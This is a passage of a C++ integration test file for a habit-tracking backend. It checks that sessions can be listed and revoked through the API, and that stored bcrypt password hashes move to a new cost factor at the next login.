  std::string phone_id;
  std::string first_id;
  for (const auto& item : items) {
    if (item.at("current").as_bool()) {
      phone_id = std::string(item.at("id").as_string());
      EXPECT_EQ(item.at("user_agent").as_string(), "HabitApp/2.1 (iPhone) ??");
    }
  }
  ASSERT_FALSE(phone_id.empty());
  // The first login's session, as the first account's token sees it.
  const auto firsts = client().get("/api/v1/sessions", a.auth()).json();
  for (const auto& item : firsts.at("items").as_array())
    if (item.at("current").as_bool()) first_id = std::string(item.at("id").as_string());
  ASSERT_FALSE(first_id.empty());

  // Ending one: its refresh token stops working; another user cannot end it.
  const Account other = register_user();
  expect_problem(client().del("/api/v1/sessions/" + first_id, other.auth()), 404);
  EXPECT_EQ(client().del("/api/v1/sessions/" + first_id, phone).status, 204);
  expect_problem(client().post("/api/v1/auth/refresh", {{"refresh_token", a.refresh_token}}), 401);
  expect_problem(client().del("/api/v1/sessions/" + first_id, phone), 404);

  // Ending all others: only the phone's refresh still works.
  EXPECT_EQ(client().del("/api/v1/sessions", phone).status, 204);
  expect_problem(client().post("/api/v1/auth/refresh", {{"refresh_token", third_refresh}}), 401);
  const auto refreshed = client().post("/api/v1/auth/refresh", {{"refresh_token", phone_refresh}});
  ASSERT_EQ(refreshed.status, 200);
  const auto remaining = client().get("/api/v1/sessions", bearer(std::string(refreshed.json().at("access_token").as_string())));
  ASSERT_EQ(remaining.json().at("items").as_array().size(), 1u);
  EXPECT_TRUE(remaining.json().at("items").as_array()[0].at("current").as_bool());
  EXPECT_EQ(remaining.json().at("items").as_array()[0].at("id").as_string(), phone_id);
}

// Password hashes move to a new HABITS_BCRYPT_COST at the next successful login.
TEST(PasswordRehash, ALoginStoresTheHashAtTheNewCost) {
  EnvVars env = backend_env();
  const std::string name = "rehash" + std::to_string(::getpid()) + "_" + std::to_string(std::time(nullptr) % 100000);
  const boost::json::object login{{"login", name}, {"password", "a fine password"}};
  {
    ServerProcess server(env);
    HttpClient first(server.port());
    ASSERT_EQ(sign_up(first, name), 201);
  }
  const std::string hash_of = "SELECT password_hash FROM users WHERE username = '" + name + "'";
  EXPECT_EQ(query_database(env, hash_of).substr(0, 7), "$2b$04$");
  env.emplace_back("HABITS_BCRYPT_COST", "5");
  ServerProcess stronger(env);
  HttpClient http(stronger.port());
  ASSERT_EQ(http.post("/api/v1/auth/login", login).status, 200);
  EXPECT_EQ(query_database(env, hash_of).substr(0, 7), "$2b$05$");
  ASSERT_EQ(http.post("/api/v1/auth/login", login).status, 200);  // and the new hash verifies
}

}  // namespace
}  // namespace habitd::test
